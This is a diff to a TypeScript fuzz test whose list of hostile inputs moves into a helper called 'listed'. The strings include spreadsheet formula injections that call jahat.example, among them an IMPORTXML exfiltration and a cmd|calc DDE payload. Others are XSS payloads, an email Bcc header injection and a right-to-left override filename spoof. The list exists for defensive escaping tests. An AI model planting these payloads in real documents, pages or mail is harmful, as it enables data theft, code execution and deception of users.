@@ -2,6 +2,7 @@
 import fc from 'fast-check';
 import { beforeAll, describe, expect, it } from 'vitest';
 import type { CalendarEventInfo, ExecutionRecord, Mail } from '../../../packages/local-workspace/src/facade.ts';
+import { listed } from '../../listed.ts';
 import { desperateDesk, errorsOf, PEOPLE, PLAIN_ANSWERS, type Row, type TestDesk } from '../desk.ts';
 import { QUESTIONS } from '../tabs.ts';
 
@@ -28,50 +29,19 @@ const PARTICIPANTS = QUESTIONS.participants;
 
 const STARTS = ['', '=', '+', '-', '@', '\t', '\r', '\n', "'", "''", '"', ' =', '\u0000=', '\uFEFF=', '\u00A0'];
 const BODIES = [
-  'HYPERLINK("https://jahat.example","klik")',
-  'IMPORTXML("https://jahat.example/"&A1,"//a")',
-  "cmd|' /C calc'!A0",
-  '1+1',
-  'SUM(A1:A9)',
-  '007',
-  '0812',
-  '3/12/2026',
-  '2026-12-03',
-  '1E5',
-  'TRUE',
-  'FALSE',
-  '10:30',
-  '1,5',
-  '50%',
-  'Rp1.000',
-  '1/2',
-  '#REF!',
-  '#N/A',
-  'null',
-  'undefined',
-  '[object Object]',
-  '__proto__',
-  'constructor',
-  '$\u007b7*7}',
-  '{{7*7}}',
-  '<script>alert(1)</script>',
-  '<img src=x onerror=alert(1)>',
-  '</td></tr></table></body><h1>Disetujui',
-  '<a href="https://jahat.example">',
-  '"><b style="font-size:99px">',
+  ...listed`
+    HYPERLINK("https://jahat.example","klik") · IMPORTXML("https://jahat.example/"&A1,"//a") · cmd|' /C calc'!A0 · 1+1
+    SUM(A1:A9) · 007 · 0812 · 3/12/2026 · 2026-12-03 · 1E5 · TRUE · FALSE · 10:30 · 1,5 · 50% · Rp1.000 · 1/2 · #REF!
+    #N/A · null · undefined · [object Object] · __proto__ · constructor · $\u007b7*7} · {{7*7}}
+    <script>alert(1)</script> · <img src=x onerror=alert(1)> · </td></tr></table></body><h1>Disetujui
+    <a href="https://jahat.example"> · "><b style="font-size:99px"> · ]]> · &lt;b&gt; &amp; &#60;i&#62;
+    javascript:alert(1) · \u202Egnp.exe\u202C \u2066isi\u2069 · 👩🏽‍🏫👨‍👩‍👧‍👦🇮🇩 · A\u0301\u0323\u200D\u200B
+    \uD83D tanpa pasangan \uDE00 · \u0001\u0007\u001B[31m\u007F · Sekolah “Harapan” & Rekan, 100% <baik>
+    مدرسة ١٢٣ בית ספר
+  `,
   '<!-- ',
-  ']]>',
-  '&lt;b&gt; &amp; &#60;i&#62;',
-  'javascript:alert(1)',
   'Yth.\r\nBcc: semua@jahat.example\r\n\r\nIsi palsu',
   'satu\u2028dua\u2029tiga\u0085empat',
-  '\u202Egnp.exe\u202C \u2066isi\u2069',
-  '👩🏽‍🏫👨‍👩‍👧‍👦🇮🇩',
-  'A\u0301\u0323\u200D\u200B',
-  '\uD83D tanpa pasangan \uDE00',
-  '\u0001\u0007\u001B[31m\u007F',
-  'Sekolah “Harapan” & Rekan, 100% <baik>',
-  'مدرسة ١٢٣ בית ספר',
 ];
 
 /** Text that nobody means well with; each differs from the others. */
